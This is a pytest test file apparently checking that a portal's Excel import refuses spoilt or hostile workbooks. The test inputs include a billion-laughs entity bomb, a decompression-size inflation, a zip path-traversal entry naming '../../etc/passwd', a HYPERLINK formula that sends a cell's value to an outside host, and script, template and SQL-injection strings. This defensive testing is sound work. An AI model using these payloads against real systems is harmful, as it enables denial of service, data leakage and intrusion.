"""Files no office program would write: each is answered with a sentence or read harmlessly, and writes nothing."""

import io
import zipfile
from collections.abc import Callable

import openpyxl
import pytest

from inspections.exchange import coming, taking
from portal.db import value
from portal.demo.cast import Cast
from portal.errors import BadInput, Refused
from tests.builders import an_inspection, an_item
from tests.inspections.exchange.sheets import cells, edited, handed_in, sentences
from tests.portal.sheets.workbooks import replaced

SHEET = "xl/worksheets/sheet1.xml"


def entities(data: bytes) -> bytes:
    """A billion laughs in the sheet."""
    bomb = '<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈">' + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 20}">' for a, b in zip("abcdefg", "bcdefgh", strict=True)
    )
    return replaced(data, {SHEET: lambda xml: xml.replace("?>", "?>" + bomb + "]>", 1).replace("<t>", "<t>&h;", 1)})


def inflating(data: bytes) -> bytes:
    """A hundred megabytes of blanks in a few kilobytes."""
    return replaced(data, {SHEET: lambda xml: xml.replace("</worksheet>", " " * 120_000_000 + "</worksheet>")})


def cut(data: bytes) -> bytes:
    return data[: len(data) // 2]


def not_a_workbook(data: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as container:
        container.writestr("../../etc/passwd", "x")
    return file.getvalue()


def old_format(data: bytes) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048)


@pytest.mark.parametrize("spoil", [entities, inflating, cut, not_a_workbook, old_format], ids=lambda one: one.__name__)
async def test_a_spoilt_file_is_refused_in_a_sentence(people: Cast, spoil: Callable[[bytes], bytes]) -> None:
    inspection = await an_inspection(people)
    await an_item(people, inspection)
    data = await edited(people.wang, inspection, lambda *_: None)
    with pytest.raises(BadInput) as refused:
        await coming.look(people.wang, inspection, spoil(data), "台账.xlsx")
    assert any("一" <= letter <= "鿿" for letter in str(refused.value.complaints))
    assert await value("SELECT count(*) FROM inspections_exchange") == 0


async def test_a_formula_is_neither_run_nor_taken_nor_sent_back(people: Cast) -> None:
    inspection = await an_inspection(people)
    await an_item(people, inspection)
    shell = '=HYPERLINK("http://example.test/"&A1,"点我")'
    exchange = await handed_in(people.wang, inspection, cells((1, "整改目标", shell)))
    assert "含公式，请粘贴为数值" in sentences(exchange)[0]
    with pytest.raises(Refused):
        await taking.take(people.wang, exchange, "")
    back = openpyxl.load_workbook(io.BytesIO(coming.errors_of(exchange)))
    assert not [cell for line in back.worksheets[0] for cell in line if cell.data_type == "f"]


async def test_a_row_of_another_inspection_is_not_reached_by_its_number(people: Cast) -> None:
    """Ids and versions written into the hidden columns by hand open nothing."""
    mine, other = await an_inspection(people), await an_inspection(people)
    await an_item(people, mine)
    await an_item(people, other, target="别的巡察的目标")
    foreign = await value("SELECT id FROM inspections_item WHERE inspection = {}", other)
    stolen = cells((1, "编号（勿改）", str(foreign)), (1, "版本（勿改）", "0"), (1, "整改目标", "改别人的"))
    exchange = await handed_in(people.wang, mine, stolen)
    assert "系统里没有这个编号的记录" in sentences(exchange)[0]
    assert "别的巡察的目标" not in str(exchange["understood"])
    assert not exchange["ready"]


async def test_markup_and_commands_stay_words(people: Cast) -> None:
    inspection = await an_inspection(people)
    await an_item(people, inspection)
    word = "<script>alert(1)</script>{{ 7*7 }}'; DROP TABLE unit; -- {} %s"
    exchange = await handed_in(people.wang, inspection, cells((1, "整改目标", word)))
    await taking.take(people.wang, exchange, "")
    assert await value("SELECT target FROM inspections_item") == word


async def test_a_row_repeated_with_the_same_number_is_refused(people: Cast) -> None:
    inspection = await an_inspection(people)
    await an_item(people, inspection)

    def doubled(sheet: object, places: dict[str, int], header: int) -> None:
        for at in places.values():
            sheet.cell(header + 2, at).value = sheet.cell(header + 1, at).value  # type: ignore[attr-defined]

    exchange = await handed_in(people.wang, inspection, doubled)
    assert "编号与第4行相同" in sentences(exchange)[0]
    assert not exchange["ready"]
